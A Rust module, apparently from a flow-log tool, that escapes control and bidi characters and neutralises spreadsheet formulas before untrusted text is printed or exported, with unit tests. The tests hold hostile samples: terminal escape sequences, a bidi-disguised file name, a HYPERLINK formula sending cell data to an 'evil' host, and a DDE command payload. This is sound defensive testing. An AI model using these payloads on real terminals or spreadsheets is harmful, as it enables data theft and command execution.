//! The one path by which text from input reaches a terminal, a log line or a spreadsheet.
//!
//! Flow logs carry attacker-controlled text (labels, services, column names, file names). A
//! raw ESC starts a terminal escape (window titles, OSC 52 clipboard writes, screen clears,
//! cursor reports typed into the shell), a bidi override reorders what the operator reads,
//! and a cell starting with `=` is a formula in a spreadsheet. Controls are escaped visibly
//! (`\x1b`, `\u{202e}`) rather than dropped, so the operator sees that something was there.
//!
//! - [`cell`]: one value on one line (table cells, TUI text): every control escaped, `\n` too.
//! - [`text`]: a multi-line message: newlines and tabs kept, everything else escaped.
//! - [`json`]: serialised JSON, whose escapes serde leaves out (DEL, C1, bidi).
//! - [`spreadsheet`]: a CSV text cell that a spreadsheet must not evaluate.
//! - [`SafeWriter`]: stdout, stderr and the log file go through it, so even a string that
//!   missed the paths above cannot reach a terminal raw.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io::{self, Write};

/// Characters that must never reach a terminal raw: C0 and C1 controls, DEL, the bidi
/// embeddings, overrides and isolates, and the line and paragraph separators.
pub fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{061C}'
                | '\u{200E}'
                | '\u{200F}'
                | '\u{202A}'..='\u{202E}'
                | '\u{2066}'..='\u{2069}'
                | '\u{2028}'
                | '\u{2029}'
        )
}

fn push_escaped(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\t' => out.push_str("\\t"),
        '\r' => out.push_str("\\r"),
        c if (c as u32) < 0x100 => {
            let _ = write!(out, "\\x{:02x}", c as u32);
        }
        c => {
            let _ = write!(out, "\\u{{{:x}}}", c as u32);
        }
    }
}

fn escape_where(s: &str, unsafe_here: impl Fn(char) -> bool) -> Cow<'_, str> {
    // Nearly every cell is plain printable ASCII: answered without a copy.
    if s.bytes().all(|b| (0x20..0x7f).contains(&b)) || !s.chars().any(&unsafe_here) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if unsafe_here(c) {
            push_escaped(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// One value on one line: every unsafe character escaped, newlines and tabs included.
pub fn cell(s: &str) -> Cow<'_, str> {
    escape_where(s, is_unsafe)
}

/// A message of one or more lines: newlines and tabs kept, every other unsafe character
/// escaped (a carriage return too: it would let a line overwrite what is before it).
pub fn text(s: &str) -> Cow<'_, str> {
    escape_where(s, |c| c != '\n' && c != '\t' && is_unsafe(c))
}

/// Serialised JSON made terminal-safe and still valid: serde escapes C0 but writes DEL, C1
/// and bidi controls as they are; those only occur inside strings, where `\uXXXX` means the
/// same character.
pub fn json(s: &str) -> Cow<'_, str> {
    if !s.chars().any(|c| c != '\n' && is_unsafe(c)) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if c != '\n' && is_unsafe(c) {
            let _ = write!(out, "\\u{:04x}", c as u32);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// A CSV text cell neutralised as OWASP recommends: a cell that a spreadsheet would read as a
/// formula (`=`, `+`, `-`, `@`, or a leading tab or carriage return) gets a leading `'`.
/// Numbers stay numbers: `-1.5` is left alone. Controls are escaped as in [`cell`].
pub fn spreadsheet(s: &str) -> Cow<'_, str> {
    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
    if !formula {
        return cell(s);
    }
    Cow::Owned(format!("'{}", cell(s)))
}

/// A writer that escapes what [`text`] escapes, for whole streams (stdout, stderr, the log).
/// UTF-8 split across writes is joined; bytes that are not UTF-8 are shown as `\xNN`.
pub struct SafeWriter<W: Write> {
    inner: W,
    /// The start of a UTF-8 sequence whose remaining bytes have not been written yet.
    pending: Vec<u8>,
}

impl<W: Write> SafeWriter<W> {
    pub fn new(inner: W) -> Self {
        Self {
            inner,
            pending: Vec::new(),
        }
    }

    fn emit(&mut self, bytes: &[u8], at_end: bool) -> io::Result<()> {
        let mut rest = bytes;
        let mut out = String::new();
        loop {
            match std::str::from_utf8(rest) {
                Ok(s) => {
                    out.push_str(&text(s));
                    break;
                }
                Err(e) => {
                    let (good, bad) = rest.split_at(e.valid_up_to());
                    out.push_str(&text(std::str::from_utf8(good).unwrap_or_default()));
                    // An incomplete sequence at the end waits for the rest of it, unless the
                    // stream is ending; invalid bytes are shown as they are.
                    if e.error_len().is_none() && !at_end {
                        self.pending = bad.to_vec();
                        break;
                    }
                    let n = e.error_len().unwrap_or(bad.len());
                    for b in &bad[..n] {
                        let _ = write!(out, "\\x{b:02x}");
                    }
                    rest = &bad[n..];
                }
            }
        }
        self.inner.write_all(out.as_bytes())
    }
}

impl<W: Write> Write for SafeWriter<W> {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        let mut joined;
        let bytes = if self.pending.is_empty() {
            buf
        } else {
            joined = std::mem::take(&mut self.pending);
            joined.extend_from_slice(buf);
            &joined[..]
        };
        self.emit(bytes, false)?;
        Ok(buf.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        if !self.pending.is_empty() {
            let p = std::mem::take(&mut self.pending);
            self.emit(&p, true)?;
        }
        self.inner.flush()
    }
}

/// One JSON document on its own line of stdout, terminal-safe and still valid JSON.
pub fn print_json<T: serde::Serialize>(v: &T) -> io::Result<()> {
    let s = serde_json::to_string(v).map_err(io::Error::other)?;
    let mut w = stdout();
    writeln!(w, "{}", json(&s))?;
    w.flush()
}

/// Standard output through a [`SafeWriter`], buffered.
pub fn stdout() -> SafeWriter<io::BufWriter<io::StdoutLock<'static>>> {
    SafeWriter::new(io::BufWriter::new(io::stdout().lock()))
}

/// Standard error through a [`SafeWriter`].
pub fn stderr() -> SafeWriter<io::StderrLock<'static>> {
    SafeWriter::new(io::stderr().lock())
}

/// `println!` through the one safe path; a closed pipe is returned, not a panic.
#[macro_export]
macro_rules! outln {
    ($($arg:tt)*) => {{
        use std::io::Write as _;
        let mut w = $crate::sanitize::stdout();
        writeln!(w, $($arg)*).and_then(|_| w.flush())
    }};
}

/// `print!` through the one safe path.
#[macro_export]
macro_rules! out {
    ($($arg:tt)*) => {{
        use std::io::Write as _;
        let mut w = $crate::sanitize::stdout();
        write!(w, $($arg)*).and_then(|_| w.flush())
    }};
}

/// `eprintln!` through the one safe path; errors writing to stderr are ignored, as
/// `eprintln!` would have nowhere to report them either.
#[macro_export]
macro_rules! errln {
    ($($arg:tt)*) => {{
        use std::io::Write as _;
        let mut w = $crate::sanitize::stderr();
        let _ = writeln!(w, $($arg)*).and_then(|_| w.flush());
    }};
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Bytes a terminal acts on: ESC, BEL, the C1 controls as UTF-8, the bidi controls.
    pub fn has_raw_control(bytes: &[u8]) -> bool {
        let s = String::from_utf8_lossy(bytes);
        s.chars().any(|c| c != '\n' && c != '\t' && is_unsafe(c))
    }

    const HOSTILE: &str = "a\x1b]0;pwned\x07b\x1b[2J\u{9b}6n\u{202e}gnp.exe\u{7f}\r\tz";

    #[test]
    fn cells_escape_every_control_visibly() {
        let c = cell(HOSTILE);
        assert!(!has_raw_control(c.as_bytes()));
        assert_eq!(
            c,
            "a\\x1b]0;pwned\\x07b\\x1b[2J\\x9b6n\\u{202e}gnp.exe\\x7f\\r\\tz"
        );
        assert!(matches!(cell("10.0.0.1"), Cow::Borrowed(_)));
        assert!(matches!(cell("Ünïcode ok"), Cow::Borrowed(_)));
    }

    #[test]
    fn text_keeps_lines_and_tabs() {
        assert_eq!(text("a\tb\nc\rd\x1b"), "a\tb\nc\\rd\\x1b");
    }

    #[test]
    fn json_stays_valid_and_means_the_same() {
        let v = serde_json::json!({ "label": HOSTILE });
        let raw = serde_json::to_string(&v).expect("json");
        assert!(
            has_raw_control(raw.as_bytes()),
            "serde leaves C1 and bidi raw"
        );
        let safe = json(&raw);
        assert!(!has_raw_control(safe.as_bytes()));
        let back: serde_json::Value = serde_json::from_str(&safe).expect("still JSON");
        assert_eq!(back, v);
    }

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        for f in [
            "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "-2+3",
            "\t=1+1",
            "\r=1+1",
        ] {
            let s = spreadsheet(f);
            assert!(s.starts_with('\''), "{f:?} -> {s}");
            assert!(!has_raw_control(s.as_bytes()));
        }
        for n in ["-1.5", "+3", "-0", "42", "http", "a=b"] {
            assert_eq!(spreadsheet(n), n);
        }
    }

    #[test]
    fn the_writer_escapes_across_split_writes() {
        let mut w = SafeWriter::new(Vec::new());
        let bidi = "x\u{202e}y\u{9b}z\n".as_bytes();
        for b in bidi {
            w.write_all(std::slice::from_ref(b)).expect("write");
        }
        w.write_all(b"\xff\x1b[31m\n").expect("write");
        w.write_all(&[0xe2, 0x80]).expect("write");
        w.flush().expect("flush");
        let out = String::from_utf8(w.inner).expect("utf-8");
        assert_eq!(out, "x\\u{202e}y\\x9bz\n\\xff\\x1b[31m\n\\xe2\\x80");
    }
}
